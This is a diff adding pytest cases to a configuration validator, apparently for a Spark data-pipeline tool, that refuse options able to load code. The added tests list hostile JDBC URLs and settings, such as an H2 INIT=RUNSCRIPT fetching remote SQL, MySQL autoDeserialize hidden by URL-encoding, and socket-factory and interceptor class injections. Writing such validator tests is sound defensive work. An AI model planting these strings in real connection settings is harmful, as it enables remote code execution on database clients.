@@ -234,6 +234,74 @@ def test_a_setting_that_tunes_is_taken(tmp_path: Path) -> None:
 
 
 @pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("spark.shuffle.manager", "evil.Manager"),
+        ("spark.io.compression.codec", "evil.Codec"),
+        ("spark.ui.filters", "org.good.Filter, evil.Filter"),
+        ("spark.yarn.dist.jars", "/tmp/evil.jar"),
+    ],
+)
+def test_a_setting_whose_value_is_a_class_is_refused(tmp_path: Path, name: str, value: str) -> None:
+    said = refusals(tmp_path, SHOP, {"spark": {"conf": {name: value}}})
+    assert f"{name} may load code" in said[0]
+
+
+@pytest.mark.parametrize(
+    ("name", "value"),
+    [
+        ("url", "jdbc:derby:/tmp/evil;create=true"),
+        ("URL", "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://x/a.sql'"),
+        ("url", "jdbc:sqlite:/etc/x"),
+        ("url", "${URL:-jdbc:derby:memory:x}"),
+        ("url", "jdbc:${NOTHING:-derby}:memory:x"),
+        ("url", "jdbc:postgresql://db/shop?socketFactory=evil.Factory&socketFactoryArg=id"),
+        ("url", "jdbc:postgresql://db/shop?sslhostnameverifier=evil"),
+        ("url", "jdbc:mysql://db/shop?auto%44eserialize=true"),
+        ("url", "jdbc:mysql://(host=db,queryInterceptors=evil)/shop"),
+        ("driver", "org.apache.derby.jdbc.EmbeddedDriver"),
+        ("connectionProvider", "evil"),
+        ("socketFactory", "evil"),
+        ("sslpasswordcallback", "evil"),
+        ("authenticationPluginClassName", "evil"),
+        ("kafka.interceptor.classes", "evil"),
+        ("kafka.metric.reporters", "evil"),
+        ("kafka.sasl.client.callback.handler.class", "evil"),
+        ("kafka.partition.assignment.strategy", "evil.Strategy"),
+        ("fs.evil.impl", "evil"),
+        ("fs.s3a.aws.credentials.provider", "evil"),
+        ("parquet.crypto.factory.class", "evil"),
+        ("io.compression.codecs", "evil"),
+    ],
+)
+def test_an_option_that_loads_code_is_refused(tmp_path: Path, name: str, value: str) -> None:
+    for section, table in (("sources", "sales"), ("dimensions", "items")):
+        config = deepcopy(SHOP)
+        config[section][table]["options"] = {name: value}
+        said = " ".join(refusals(tmp_path, config))
+        assert f"{section}.{table}.options.{name}: " in said
+        assert "load code" in said or "must name a database's server" in said
+
+
+def test_an_option_that_tells_how_to_read_is_taken(tmp_path: Path) -> None:
+    config = deepcopy(SHOP)
+    options = {
+        "url": "jdbc:postgresql://${HOSTILE}:5432/shop?sslmode=require",
+        "dbtable": "shop.public.Items",
+        "header": True,
+        "unescapedQuoteHandling": "STOP_AT_CLOSING_QUOTE",
+        "timestampFormat": "dd.MM.yyyy hh.mm.SSS",
+        "subscribePattern": "a.*",
+        "kafka.bootstrap.servers": "b1.example.org:9092,b2:9092",
+        "fs.s3a.endpoint": "http://127.0.0.1:9000",
+    }
+    config["sources"]["sales"]["options"] = options
+    assert refusals(tmp_path, config) == ()
+    config["sources"]["sales"]["options"] = {"url": "${HOSTILE}", "driver": "${HOSTILE}"}
+    assert len(refusals(tmp_path, config)) == 1, "a driver is named by nobody"
+
+
+@pytest.mark.parametrize(
     "module", ["os", "subprocess", "builtins", "os.path", "sluice.runtime.jars", "../x", "a;b", ""]
 )
 def test_a_module_that_is_not_a_users_own_is_refused(tmp_path: Path, module: str) -> None:
